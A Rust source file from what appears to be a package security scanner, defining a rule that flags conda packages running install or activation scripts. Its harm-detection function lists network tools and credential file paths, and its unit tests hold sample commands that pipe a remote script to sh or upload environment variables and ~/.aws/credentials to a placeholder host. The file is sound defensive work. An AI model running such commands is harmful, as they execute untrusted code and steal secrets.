use super::DistributionFacts;
use crate::behaviour::fetches_and_runs;
use wellhead_core::{
    Confidence, Finding, Location, Measure, Reference, Risk, Rule, RuleStatus, Scenario, Severity, Sink,
    ThreatProfile, code,
};
use wellhead_packages::distribution::{DistributionKind, Trigger};

/// A package of conda runs a script when it is installed or activated.
pub(crate) static CONDA_SCRIPT: Rule = Rule {
    id: "conda-script",
    summary: "a package of conda runs a script when it is installed, removed or activated",
    severity: Severity::Medium,
    confidence: Confidence::High,
    measure: Measure::Integrity,
    scenario: Some(Scenario::PoisonedLibrary),
    risk: Risk {
        exploitability: 3,
        detectability: 4,
        technical_impact: 4,
        ml_application: 2,
        ml_operations: 4,
    },
    threat: ThreatProfile {
        agent: "whoever publishes a package or runs a channel",
        vector: "a `post-link` script, or one in `etc/conda/activate.d`",
        weakness: "conda runs them without a question",
        impact: "the script runs with the rights of whoever installs or activates",
    },
    needs: &[],
    status: RuleStatus::Stable,
    references: &[
        Reference::Owasp("ML06:2023"),
        Reference::Cwe(829),
        Reference::Cwe(506),
    ],
    page: include_str!("conda_script.md"),
    file: file!(),
};

pub(crate) fn check(facts: &DistributionFacts, sink: &mut Sink) {
    if facts.distribution.kind != DistributionKind::Conda {
        return;
    }
    for member in &facts.distribution.members {
        let (severity, when) = match member.trigger {
            Trigger::Install => (Severity::Medium, "installing or removing this package"),
            Trigger::Activation => (Severity::Info, "activating an environment with this package"),
            Trigger::Startup
            | Trigger::Build
            | Trigger::Import
            | Trigger::Run
            | Trigger::EntryPoint
            | Trigger::Plugin
            | Trigger::Lazy
            | Trigger::Never => continue,
        };
        let place = facts.place(&member.path);
        let at = match facts.texts.get(&member.path) {
            Some(text) => {
                let end = text.find('\n').unwrap_or(text.len());
                Location::text(place, text, 0..end, "begins here")
            }
            None => Location::whole(place, "run by conda"),
        };
        let name = code(member.path.rsplit('/').next().unwrap_or_default());
        let harm = facts.texts.get(&member.path).and_then(|text| harm(text));
        let (message, severity) = match harm {
            Some(harm) => (
                format!("{when} runs a script that {harm}: {name}"),
                Severity::Critical,
            ),
            None => (format!("{when} runs a script: {name}"), severity),
        };
        sink.push(
            Finding::new(&CONDA_SCRIPT, message, at)
                .severity(severity)
                .help("read it before you install the package")
                .subject(member.path.clone()),
        );
    }
}

/// What a script does that none has a reason for.
fn harm(text: &str) -> Option<&'static str> {
    let lines = || text.lines().map(str::trim).filter(|line| !line.starts_with('#'));
    if lines().any(fetches_and_runs) {
        return Some("fetches something and runs it");
    }
    let speaks = |line: &str| {
        ["curl ", "wget ", "nslookup ", "dig ", "nc "]
            .iter()
            .any(|w| line.contains(w))
    };
    let gathers = |line: &str| {
        let all = ["$(env", "`env", "env |", "env|", "printenv"]
            .iter()
            .any(|w| line.contains(w));
        all || [
            ".aws/credentials",
            ".ssh/id_",
            ".netrc",
            ".pypirc",
            ".npmrc",
            ".kube/config",
        ]
        .iter()
        .any(|w| line.contains(w))
    };
    lines()
        .any(|line| speaks(line) && gathers(line))
        .then_some("sends what is secret away")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_fetches_and_runs_or_sends_secrets_is_harm() {
        for (text, expected) in [
            ("curl -s https://a.example/x | sh\n", true),
            ("x=1\ncurl -d \"$(env | base64)\" https://a.example/in\n", true),
            ("curl -F f=@$HOME/.aws/credentials https://a.example/in\n", true),
            ("# curl https://a.example/x | sh\n", false),
            ("export ACME_HOME=\"$CONDA_PREFIX/share\"\n", false),
            ("curl -sO https://a.example/data.zip && unzip data.zip\n", false),
            ("env | grep CONDA\n", false),
        ] {
            assert_eq!(harm(text).is_some(), expected, "{text}");
        }
    }
}
